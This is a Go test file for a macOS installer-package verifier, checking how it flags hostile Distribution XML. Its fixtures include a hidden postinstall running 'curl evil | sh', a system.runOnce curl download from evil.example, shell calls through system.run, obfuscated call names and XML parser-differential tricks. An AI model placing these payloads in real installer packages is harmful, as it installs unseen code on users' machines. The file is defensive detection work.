package pkg

import (
	"bytes"
	"errors"
	"io/fs"
	"reflect"
	"strings"
	"testing"

	"github.com/shipgate/shipgate/internal/machofile"
	"github.com/shipgate/shipgate/internal/pkgfile"
	"github.com/shipgate/shipgate/signing"
)

// exampleDist is the Distribution productbuild writes for the example
// product archive.
func exampleDist() string {
	return string(pkgfile.Distribution("com.example.app", "1.4.0", "#app.pkg"))
}

// withDistribution builds the signed example product archive with dist as
// its Distribution and extra files added.
func withDistribution(t *testing.T, dist string, extra ...pkgfile.File) []byte {
	t.Helper()
	p, _ := testPKI(t)
	s := signedSpec(t)
	s.Files = pkgfile.ExamplePackage(p.PKI, false)
	if s.Files[0].Path != "Distribution" {
		t.Fatalf("first file %s", s.Files[0].Path)
	}
	s.Files[0].Data = []byte(dist)
	s.Files = append(s.Files, extra...)
	b, _ := pkgfile.Build(s)
	return b
}

// distFindings returns the findings of the pkg/distribution-* rules.
func distFindings(res *Result) []signing.Finding {
	var out []signing.Finding
	for _, f := range res.Findings {
		if strings.HasPrefix(string(f.Rule), "pkg/distribution-") {
			out = append(out, f)
		}
	}
	return out
}

// hasFinding reports a finding of rule at sev whose message holds each
// of words.
func hasFinding(res *Result, rule signing.Rule, sev signing.Severity, words ...string) bool {
	for _, f := range res.Findings {
		if f.Rule != rule || f.Severity != sev {
			continue
		}
		ok := true
		for _, w := range words {
			ok = ok && strings.Contains(f.Message, w)
		}
		if ok {
			return true
		}
	}
	return false
}

// TestDistributionProductbuild: the Distribution productbuild writes for
// one component package passes with no finding, and is read.
func TestDistributionProductbuild(t *testing.T) {
	t.Parallel()
	res := verifyBytes(t, withDistribution(t, exampleDist()), machofile.SignTime)
	if got := statuses(res); got != "apple-pkg:valid apple-pkg-cms:valid" || len(res.Findings) != 0 {
		t.Fatalf("statuses %s, findings %v", got, res.Findings)
	}
	d := res.Distribution
	if d == nil || d.Root != "installer-gui-script" || d.AllowExternalScripts || len(d.Scripts) != 0 {
		t.Fatalf("distribution %+v", d)
	}
	want := []PkgRef{{ID: "com.example.app", Href: "#app.pkg"}}
	if !reflect.DeepEqual(d.PkgRefs, want) || !reflect.DeepEqual(d.ChoiceRefs, []string{"com.example.app"}) {
		t.Errorf("pkg-refs %+v, choice refs %v", d.PkgRefs, d.ChoiceRefs)
	}
}

// TestDistributionPercentEncodedRef: productbuild percent-encodes the
// component's name in the pkg-ref ("#Example%20App.pkg"); it resolves.
func TestDistributionPercentEncodedRef(t *testing.T) {
	t.Parallel()
	p, _ := testPKI(t)
	s := signedSpec(t)
	for _, f := range pkgfile.ExamplePackage(p.PKI, false) {
		f.Path = strings.Replace(f.Path, "app.pkg/", "Example App.pkg/", 1)
		if f.Path == "Distribution" {
			f.Data = pkgfile.Distribution("com.example.app", "1.4.0", "#Example%20App.pkg")
		}
		s.Files = append(s.Files, f)
	}
	s.Files = s.Files[len(s.Files)-4:]
	b, _ := pkgfile.Build(s)
	if res := verifyBytes(t, b, machofile.SignTime); len(res.Findings) != 0 {
		t.Errorf("findings %v", res.Findings)
	}
}

// TestAttackDistributionPackageOutside: a pkg-ref naming a package outside
// the archive (a download, a file beside the .pkg, a path out of the
// archive, an entry the archive lacks) makes Installer install code
// shipgate never saw: an error naming the reference.
func TestAttackDistributionPackageOutside(t *testing.T) {
	t.Parallel()
	for name, href := range map[string]string{
		"https":        "https://updates.example.net/app.pkg",
		"http":         "http://updates.example.net/app.pkg",
		"file-url":     "file:///private/tmp/app.pkg",
		"beside":       "app.pkg",
		"dot-slash":    "./app.pkg",
		"parent":       "#../app.pkg",
		"encoded-path": "#..%2Fapp.pkg",
		"absent":       "#other.pkg",
		"nested":       "#app.pkg/Payload",
		"bad-escape":   "#app%zz.pkg",
	} {
		t.Run(name, func(t *testing.T) {
			res := verifyBytes(t, withDistribution(t, strings.Replace(exampleDist(), ">#app.pkg<", ">"+href+"<", 1)), machofile.SignTime)
			if !hasFinding(res, RuleDistributionExternalPackage, signing.SeverityError, "com.example.app") {
				t.Errorf("findings %v", distFindings(res))
			}
			// app.pkg is then named by nothing, yet still walked.
			if !hasFinding(res, RuleDistributionUnreferencedComponent, signing.SeverityWarning, `"app.pkg"`) {
				t.Errorf("findings %v", distFindings(res))
			}
		})
	}
}

// TestAttackDistributionSecondPackageOutside: the archive's own component
// is named, and a second pkg-ref installs a package from the network.
func TestAttackDistributionSecondPackageOutside(t *testing.T) {
	t.Parallel()
	dist := strings.Replace(exampleDist(), "</installer-gui-script>",
		`    <choice id="extra" visible="false"><pkg-ref id="net.evil"/></choice>
    <pkg-ref id="net.evil">https://evil.example/helper.pkg</pkg-ref>
</installer-gui-script>`, 1)
	res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
	fs := distFindings(res)
	if len(fs) != 1 || fs[0].Rule != RuleDistributionExternalPackage || !strings.Contains(fs[0].Message, "https://evil.example/helper.pkg") {
		t.Errorf("findings %v", fs)
	}
}

// TestAttackDistributionUnreferencedComponent: a component package no
// pkg-ref names ships in the signed archive: a warning, and its Payload
// and Scripts are still walked.
func TestAttackDistributionUnreferencedComponent(t *testing.T) {
	t.Parallel()
	payload := pkgfile.Gzip(pkgfile.CPIO([]pkgfile.CPIOFile{
		{Name: ".", Mode: 0o040755},
		{Name: "./Library/LaunchDaemons/x.plist", Mode: 0o100644, Data: []byte("<plist/>")},
	}))
	scripts := pkgfile.Gzip(pkgfile.CPIO([]pkgfile.CPIOFile{
		{Name: ".", Mode: 0o040755},
		{Name: "./postinstall", Mode: 0o100755, Data: []byte("#!/bin/sh\ncurl evil | sh\n")},
	}))
	b := withDistribution(t, exampleDist(),
		pkgfile.File{Path: "hidden.pkg/PackageInfo", Data: []byte("<pkg-info/>")},
		pkgfile.File{Path: "hidden.pkg/Payload", Data: payload},
		pkgfile.File{Path: "hidden.pkg/Scripts", Data: scripts})
	res := verifyBytes(t, b, machofile.SignTime)
	fs := distFindings(res)
	if len(fs) != 1 || fs[0].Rule != RuleDistributionUnreferencedComponent || fs[0].Severity != signing.SeverityWarning || !strings.Contains(fs[0].Message, `"hidden.pkg"`) {
		t.Errorf("findings %v", fs)
	}
	fsys, finds := OpenFS(open(t, b), FSOptions{})
	if _, err := fsStat(fsys, "hidden.pkg/Payload/Library/LaunchDaemons/x.plist"); err != nil {
		t.Errorf("unreferenced payload not walked: %v", err)
	}
	listed := false
	for _, f := range finds {
		listed = listed || f.Rule == RuleInstallScript && f.Path == "hidden.pkg/Scripts/postinstall"
	}
	if !listed {
		t.Errorf("unreferenced component's postinstall not listed: %v", finds)
	}
}

// TestAttackDistributionAmbiguous: a Distribution XML readers may read
// differently is refused (pkg/distribution-malformed): what Installer
// installs could be another package than the one shipgate resolved.
func TestAttackDistributionAmbiguous(t *testing.T) {
	t.Parallel()
	d := exampleDist()
	ref := ">#app.pkg<"
	for name, dist := range map[string]string{
		// libxml2-style readers keep the last text node, encoding/xml
		// joins them: "#evil" + ".pkg" against "#app.pkg".
		"comment-split-ref": strings.Replace(d, ref, ">#ev<!---->il.pkg<", 1),
		"cdata-split-ref":   strings.Replace(d, ref, ">#app<![CDATA[.pkg]]><", 1),
		"pi-split-ref":      strings.Replace(d, ref, ">#app<?x y?>.pkg<", 1),
		// One id, two packages.
		"duplicate-pkg-ref": strings.Replace(d, "</installer-gui-script>", `<pkg-ref id="com.example.app">https://evil.example/app.pkg</pkg-ref></installer-gui-script>`, 1),
		// Two options elements: one reader takes the first, another the
		// last.
		"duplicate-options":   strings.Replace(d, "<choice id=\"default\"/>", `<options allow-external-scripts="false"/><options allow-external-scripts="true"/><choice id="default"/>`, 1),
		"duplicate-attribute": strings.Replace(d, "<choice id=\"default\"/>", `<options allow-external-scripts="false" allow-external-scripts="true"/><choice id="default"/>`, 1),
		// A DTD's attribute defaults and entities are applied by libxml2.
		"doctype-default": strings.Replace(d, "<installer-gui-script", `<!DOCTYPE installer-gui-script [<!ATTLIST options allow-external-scripts CDATA "true">]><installer-gui-script`, 1),
		"doctype-entity":  strings.Replace(d, "<installer-gui-script", `<!DOCTYPE installer-gui-script [<!ENTITY p "#app.pkg">]><installer-gui-script`, 1),
		"namespace":       strings.Replace(d, "<choice id=\"default\"/>", `<x:options xmlns:x="urn:x" allow-external-scripts="true"/><choice id="default"/>`, 1),
		"default-ns":      strings.Replace(d, "<installer-gui-script ", `<installer-gui-script xmlns="urn:x" `, 1),
		"second-root":     d + `<installer-gui-script><pkg-ref id="b">https://evil.example/b.pkg</pkg-ref></installer-gui-script>`,
		"text-after-root": d + "trailing",
		"wrong-root":      strings.ReplaceAll(d, "installer-gui-script", "installer-gui-scrip"),
		"not-xml":         d[:len(d)/2],
		"too-large":       strings.Replace(d, "<choice id=\"default\"/>", "<choice id=\"default\"/><!--"+strings.Repeat("x", MaxDistribution)+"-->", 1),
	} {
		t.Run(name, func(t *testing.T) {
			res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
			fs := distFindings(res)
			if len(fs) != 1 || fs[0].Rule != RuleDistributionMalformed || fs[0].Severity != signing.SeverityError || fs[0].Offset == nil {
				t.Errorf("findings %v", fs)
			}
			if res.Distribution != nil {
				t.Errorf("distribution read: %+v", res.Distribution)
			}
		})
	}
}

// TestAttackDistributionExternalScripts: allow-external-scripts lets the
// Installer JavaScript run programs (system.run) before anything is
// installed: a warning naming the programs called, and each script is
// listed.
func TestAttackDistributionExternalScripts(t *testing.T) {
	t.Parallel()
	dist := strings.Replace(exampleDist(), `<choice id="default"/>`, `<options customize="never" allow-external-scripts="true"/>
    <installation-check script="check()"/>
    <volume-check script="system.runOnce('/usr/bin/curl', '-o', '/tmp/x', 'https://evil.example/x')"/>
    <script><![CDATA[
function check() { return system.run("/bin/sh", "-c", "id") == 0; }
]]></script>
    <choice id="default"/>`, 1)
	res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
	if !hasFinding(res, RuleDistributionExternalScripts, signing.SeverityWarning, "allow-external-scripts", "run /bin/sh", "runOnce /usr/bin/curl") {
		t.Errorf("findings %v", distFindings(res))
	}
	notes := 0
	for _, f := range res.Findings {
		if f.Rule == RuleDistributionScript && f.Severity == signing.SeverityNote {
			notes++
		}
	}
	if notes != 3 {
		t.Errorf("%d scripts listed, want 3: %v", notes, distFindings(res))
	}
}

// TestAttackDistributionExternalScriptsOnly: allow-external-scripts with
// no call shipgate can see (a call through another name) is still a
// warning.
func TestAttackDistributionExternalScriptsOnly(t *testing.T) {
	t.Parallel()
	dist := strings.Replace(exampleDist(), `<choice id="default"/>`, `<options allow-external-scripts="true"/><script>var s = system; var r = "ru" + "n"; s[r]("/bin/sh");</script><choice id="default"/>`, 1)
	res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
	if !hasFinding(res, RuleDistributionExternalScripts, signing.SeverityWarning, "allow-external-scripts", "not seen") {
		t.Errorf("findings %v", distFindings(res))
	}
}

// TestAttackDistributionSystemRunInChoice: a system.run call in a choice's
// selected expression, without allow-external-scripts, is reported.
func TestAttackDistributionSystemRunInChoice(t *testing.T) {
	t.Parallel()
	dist := strings.Replace(exampleDist(), `<choice id="default"/>`, `<choice id="default" selected="system.run('/tmp/payload') == 0"/>`, 1)
	res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
	if !hasFinding(res, RuleDistributionExternalScripts, signing.SeverityWarning, `<choice id="default" selected>: run /tmp/payload`) {
		t.Errorf("findings %v", distFindings(res))
	}
}

// TestAttackDistributionCommentedRunCall: a comment inside a <script>
// splits "system.r" from "un(": one reading joins the text, the scan sees
// the call in either.
func TestAttackDistributionCommentedRunCall(t *testing.T) {
	t.Parallel()
	dist := strings.Replace(exampleDist(), `<choice id="default"/>`, `<script>system.run<!-- -->('/bin/sh')</script><choice id="default"/>`, 1)
	res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
	if !hasFinding(res, RuleDistributionExternalScripts, signing.SeverityWarning, "run") {
		t.Errorf("findings %v", distFindings(res))
	}
}

func TestRunCalls(t *testing.T) {
	t.Parallel()
	for code, want := range map[string][]string{
		`system.run("/bin/sh", "-c", "x")`:     {"run /bin/sh"},
		`system . runOnce ( '/usr/bin/true' )`: {"runOnce /usr/bin/true"},
		`system["run"](p)`:                     {"run (computed)"},
		`system.log("system.running")`:         nil,
		`mysystem.run("x")`:                    nil,
		`system.run('a'); system.run("b")`:     {"run a", "run b"},
	} {
		if got := RunCalls(code); !reflect.DeepEqual(got, want) {
			t.Errorf("RunCalls(%q) = %q, want %q", code, got, want)
		}
	}
}

// TestParseDistributionErrorOffset: errors are *FormatError values naming
// the Distribution and the byte the problem is at.
func TestParseDistributionErrorOffset(t *testing.T) {
	t.Parallel()
	doc := `<installer-gui-script><options/><options/></installer-gui-script>`
	_, err := ParseDistribution([]byte(doc))
	var fe *FormatError
	if !errors.As(err, &fe) || fe.Offset != int64(strings.LastIndex(doc, "<options/>")) || !strings.Contains(err.Error(), "Distribution") {
		t.Errorf("err = %v", err)
	}
}

func fsStat(fsys fs.FS, p string) (fs.FileInfo, error) { return fs.Stat(fsys, p) }

// FuzzDistribution reads arbitrary Distribution files: ParseDistribution
// and RunCalls must return, never panic.
func FuzzDistribution(f *testing.F) {
	f.Add([]byte(exampleDist()))
	f.Add([]byte(plainDistribution))
	f.Add([]byte(`<installer-gui-script><options allow-external-scripts="true"/><script><![CDATA[system.run("/bin/sh")]]></script><installation-check script="c()"/></installer-gui-script>`))
	f.Add([]byte(`<installer-gui-script><pkg-ref id="a">#a<!---->.pkg</pkg-ref></installer-gui-script>`))
	f.Add([]byte(`<!DOCTYPE x [<!ENTITY e "y">]><installer-gui-script/>`))
	f.Fuzz(func(t *testing.T, b []byte) {
		d, err := ParseDistribution(b)
		if err != nil {
			var fe *FormatError
			if !errors.As(err, &fe) {
				t.Fatalf("error %T %v", err, err)
			}
			return
		}
		for _, s := range append(d.Scripts, d.Expressions...) {
			RunCalls(s.Code)
		}
		for _, r := range d.PkgRefs {
			componentRef(r.Href)
		}
		_ = bytes.Clone(b)
	})
}

// TestAttackDistributionLowercaseName: on a case-insensitive volume
// "distribution" is the Distribution; it is read as one.
func TestAttackDistributionLowercaseName(t *testing.T) {
	t.Parallel()
	p, _ := testPKI(t)
	s := signedSpec(t)
	s.Files = pkgfile.ExamplePackage(p.PKI, false)
	s.Files[0].Path = "distribution"
	s.Files[0].Data = []byte(strings.Replace(exampleDist(), ">#app.pkg<", ">https://evil.example/app.pkg<", 1))
	b, _ := pkgfile.Build(s)
	res := verifyBytes(t, b, machofile.SignTime)
	if !hasFinding(res, RuleDistributionExternalPackage, signing.SeverityError, "https://evil.example/app.pkg") {
		t.Errorf("findings %v", distFindings(res))
	}
}

// BenchmarkParseDistribution reads productbuild's Distribution and a
// hostile one at the size limit (elements nested and repeated, a long
// script scanned for calls).
func BenchmarkParseDistribution(b *testing.B) {
	var big strings.Builder
	big.WriteString(`<installer-gui-script><script>`)
	for big.Len() < MaxDistribution/2 {
		big.WriteString(`system.run("/bin/sh"); system . `)
	}
	big.WriteString(`</script>`)
	for big.Len() < MaxDistribution-64 {
		big.WriteString(`<choice id="c" selected="system"/>`)
	}
	big.WriteString(`</installer-gui-script>`)
	for name, doc := range map[string][]byte{"productbuild": []byte(exampleDist()), "hostile-1MiB": []byte(big.String())} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(doc)))
			for b.Loop() {
				d, err := ParseDistribution(doc)
				if err != nil {
					b.Fatal(err)
				}
				for _, s := range append(d.Scripts, d.Expressions...) {
					RunCalls(s.Code)
				}
			}
		})
	}
}

// TestAttackDistributionChoiceWithoutPackage: a choice whose pkg-ref
// names no package (no pkg-ref of its id has a location) passed: the
// component the other pkg-ref names was verified and reported, while the
// choice Installer installs from refers to something else. An error
// naming the choice and the reference; productbuild's "default" choice,
// which holds no pkg-ref, is not one.
func TestAttackDistributionChoiceWithoutPackage(t *testing.T) {
	t.Parallel()
	d := exampleDist()
	for name, dist := range map[string]string{
		"other-id": strings.Replace(d, `visible="false"><pkg-ref id="com.example.app"/>`, `visible="false"><pkg-ref id="com.example.other"/>`, 1),
		"second-choice": strings.Replace(d, "</installer-gui-script>",
			`    <choice id="extra" visible="false"><pkg-ref id="com.example.helper"/></choice>
</installer-gui-script>`, 1),
	} {
		t.Run(name, func(t *testing.T) {
			res := verifyBytes(t, withDistribution(t, dist), machofile.SignTime)
			fs := distFindings(res)
			if len(fs) != 1 || fs[0].Rule != RuleDistributionChoiceWithoutPackage || fs[0].Severity != signing.SeverityError || !strings.Contains(fs[0].Message, "pkg-ref \"com.example.") {
				t.Errorf("findings %v", fs)
			}
			if res.Distribution == nil || len(res.Distribution.Choices) < 2 {
				t.Errorf("distribution %+v", res.Distribution)
			}
		})
	}
}

// TestDistributionChoices: choices are read with the pkg-refs inside
// them, a nested choice's apart from its parent's.
func TestDistributionChoices(t *testing.T) {
	t.Parallel()
	d, err := ParseDistribution([]byte(`<installer-gui-script><choice id="a"><pkg-ref id="x"/><choice id="b"><pkg-ref id="y"/></choice><pkg-ref id="z"/></choice><pkg-ref id="x">#x.pkg</pkg-ref></installer-gui-script>`))
	if err != nil {
		t.Fatal(err)
	}
	want := []Choice{{ID: "a", PkgRefs: []string{"x", "z"}}, {ID: "b", PkgRefs: []string{"y"}}}
	if !reflect.DeepEqual(d.Choices, want) {
		t.Errorf("choices %+v", d.Choices)
	}
}
